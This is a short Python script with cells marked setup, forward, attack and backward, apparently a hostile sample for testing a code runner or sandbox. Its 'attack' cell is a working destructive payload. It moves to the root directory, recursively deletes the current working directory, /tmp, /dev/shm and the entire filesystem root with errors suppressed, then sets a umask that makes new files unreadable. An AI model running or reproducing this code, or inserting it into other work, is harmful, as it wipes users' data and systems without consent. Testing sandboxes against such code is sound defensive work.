# %% setup
# %% forward
# %% attack
import os
import shutil
here = os.getcwd()
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)
shutil.rmtree("/tmp", ignore_errors=True)
shutil.rmtree("/dev/shm", ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
os.umask(0o777)
print(os.path.exists(here), os.getcwd())
# %% backward
